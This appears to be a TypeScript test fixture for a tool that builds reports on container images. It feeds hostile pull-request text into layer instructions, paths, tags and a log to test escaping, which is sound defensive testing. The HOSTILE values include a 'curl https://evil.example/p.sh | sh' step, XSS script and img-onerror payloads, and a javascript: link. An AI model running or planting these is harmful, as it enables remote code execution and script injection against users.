import {
  buildImageReport,
  severityCounts,
  type ContentAnalysis,
  type ImageModel,
  type ImageReport,
  type LayerModel,
} from '../../../src/report/index.js';

const MiB = 1024 * 1024;
const hex = (n: number) => String(n).padStart(64, '0');

/** Text a pull request could put in a Dockerfile, a branch name or a file path. */
export const HOSTILE = {
  instruction:
    'RUN echo "<img src=x onerror=alert(1)>" | tee /x && curl https://evil.example/p.sh | sh # @octocat please review </details><script>alert(1)</script>',
  instruction2:
    "RUN echo '| a | b |' [link](https://evil.example) ![img](https://evil.example/p.png) fixes #12 see www.evil.example $x^2$ ~~gone~~ **bold** `code` &amp; <!-- x",
  path: 'app/</details><img src=x>@admin.txt',
  tag: 'registry.example/api:pr-12-@team-<b>bold</b>',
  log: 'Traceback (most recent call last):\n```\n</details>\n@octocat <img src=x>\nValueError: boom',
};

function layer(
  index: number,
  instruction: string,
  compressed: number,
  origin: 'base' | 'own',
  diffId = `d${index}`,
): LayerModel {
  return {
    index,
    digest: `sha256:${hex(index + 1)}`,
    diffId: `sha256:${diffId}`,
    compressedBytes: compressed,
    instruction,
    origin,
  };
}

/** The Python API of USERS §1, with a pull request's hostile text in it. */
export function fixtureModel(): ImageModel {
  const layers = [
    layer(0, '# debian.sh --arch amd64 out/ trixie @1700000000', 29 * MiB, 'base'),
    layer(1, 'RUN apt-get update && apt-get install -y --no-install-recommends python3', 16 * MiB, 'base'),
    layer(2, 'COPY --from=builder /deps /deps', 280 * MiB, 'own', 'deps-2'),
    layer(3, HOSTILE.instruction, 3 * MiB, 'own'),
    layer(4, HOSTILE.instruction2, 120 * 1024, 'own'),
    layer(5, 'COPY . /app', 9 * MiB, 'own', 'app-2'),
  ];
  return {
    image: 'registry.example/api',
    source: 'registry',
    digest: `sha256:${hex(99)}`,
    platform: 'linux/amd64',
    tags: [],
    created: '2026-11-01T10:00:00Z',
    configBytes: 6000,
    compressedBytes: 6000 + layers.reduce((s, l) => s + (l.compressedBytes ?? 0), 0),
    layers,
    base: {
      name: 'docker.io/library/python:3.12-slim',
      digest: `sha256:${hex(7)}`,
      layerCount: 2,
      matchedBy: 'diff-ids',
    },
    user: '',
    hasHealthcheck: false,
  };
}

export function fixtureBaselineModel(): ImageModel {
  const model = fixtureModel();
  const layers = [
    model.layers[0],
    model.layers[1],
    { ...model.layers[2], diffId: 'sha256:deps-1', compressedBytes: 270 * MiB },
    model.layers[3],
    { ...model.layers[5], index: 4, diffId: 'sha256:app-1', compressedBytes: 9 * MiB - 4000 },
  ];
  return {
    ...model,
    layers,
    compressedBytes: 6000 + layers.reduce((s, l) => s + (l.compressedBytes ?? 0), 0),
    digest: `sha256:${hex(98)}`,
  };
}

export function fixtureContents(): ContentAnalysis {
  const sizes = [80 * MiB, 45 * MiB, 900 * MiB, 9 * MiB, 300 * 1024, 25 * MiB];
  return {
    layers: sizes.map((uncompressedBytes, index) => ({
      index,
      tarBytes: uncompressedBytes + 4096,
      uncompressedBytes,
      files: 100 * (index + 1),
      directories: 10,
      links: 2,
      added: 90,
      modified: 10,
      removed: index === 3 ? 40 : 0,
      whiteouts: index === 3 ? 1 : 0,
      opaqueDirectories: 0,
      reclaimableBytes: index === 3 ? 12 * MiB : 0,
    })),
    efficiency: 0.987,
    reclaimableBytes: 12 * MiB,
    cumulativeBytes: 1071 * MiB,
    final: { files: 2050, bytes: 1040 * MiB },
    largestOwnFiles: [
      { path: 'deps/lib/python3.12/site-packages/torch/lib/libtorch_cpu.so', bytes: 410 * MiB, layer: 2 },
      { path: HOSTILE.path, bytes: 2 * MiB, layer: 5 },
      { path: 'app/model.bin', bytes: 1 * MiB, layer: 5 },
    ],
    wastedPaths: [
      {
        path: 'var/lib/apt/lists',
        reclaimableBytes: 11 * MiB,
        cumulativeBytes: 11 * MiB,
        occurrences: 2,
        layer: 3,
        deleted: true,
      },
      {
        path: 'app/[x](javascript:alert(1)).py',
        reclaimableBytes: 1 * MiB,
        cumulativeBytes: 2 * MiB,
        occurrences: 2,
        layer: 5,
        deleted: false,
      },
    ],
    duplicates: [
      {
        bytes: 3 * MiB,
        wastedBytes: 3 * MiB,
        verified: true,
        paths: [
          { path: 'deps/a/libz.so', bytes: 3 * MiB, layer: 2 },
          { path: 'deps/b/libz.so', bytes: 3 * MiB, layer: 2 },
        ],
      },
    ],
    findings: [
      {
        kind: 'build-tool',
        category: 'gcc',
        files: 1,
        bytes: 1_000_000,
        ownBytes: 1_000_000,
        examples: [{ path: 'usr/bin/gcc-12', bytes: 1_000_000, layer: 2 }],
      },
      {
        kind: 'package-cache',
        category: 'python bytecode',
        files: 300,
        bytes: 6 * MiB,
        ownBytes: 6 * MiB,
        examples: [{ path: 'deps/x/__pycache__/a.pyc', bytes: 40_000, layer: 2 }],
      },
      {
        kind: 'secret',
        category: 'dotenv file',
        files: 1,
        bytes: 120,
        ownBytes: 120,
        examples: [{ path: 'app/.env', bytes: 120, layer: 5 }],
      },
    ],
  };
}

export function fixtureReport(overrides: { smokeLog?: string } = {}): ImageReport {
  const baselineContents = fixtureContents();
  baselineContents.layers = [0, 1, 2, 3, 5].map((i, index) => ({ ...baselineContents.layers[i], index }));
  baselineContents.layers[2].uncompressedBytes = 880 * MiB;
  return buildImageReport({
    model: fixtureModel(),
    contents: fixtureContents(),
    tags: [
      { reference: 'registry.example/api:1.4.0', outcome: 'pushed' },
      { reference: HOSTILE.tag, outcome: 'tagged' },
      { reference: 'registry.example/api:latest', outcome: 'held-back', reason: '2.0.0 is newer' },
    ],
    build: {
      steps: [
        {
          stage: 'builder',
          position: '1/3',
          instruction: 'FROM python:3.12',
          cached: true,
          durationSeconds: 0,
        },
        {
          stage: 'builder',
          position: '2/3',
          instruction: 'RUN pip install --prefix=/deps -r requirements.lock',
          cached: false,
          durationSeconds: 41.2,
        },
        {
          stage: '',
          position: '2/5',
          instruction: 'COPY --from=builder /deps /deps',
          cached: false,
          durationSeconds: 3.1,
        },
        { stage: '', position: '3/5', instruction: HOSTILE.instruction, cached: true, durationSeconds: 0 },
        { stage: '', position: '4/5', instruction: HOSTILE.instruction2, cached: true, durationSeconds: 0 },
        { stage: '', position: '5/5', instruction: 'COPY . /app', cached: false, durationSeconds: 0.6 },
      ],
      totalSeconds: 48.7,
    },
    baseline: { model: fixtureBaselineModel(), contents: baselineContents, label: 'api:main' },
    scan: { status: 'COMPLETE', counts: severityCounts({ CRITICAL: 0, HIGH: 2, MEDIUM: 5, LOW: 11 }) },
    smokeTest: {
      passed: false,
      detail: 'exited with code 1 after 1.2 s',
      seconds: 1.2,
      log: overrides.smokeLog ?? HOSTILE.log,
    },
    fromReferences: ['python:3.12-slim'],
    policy: { sizeBudget: { maxCompressedBytes: 400 * MiB } },
  });
}
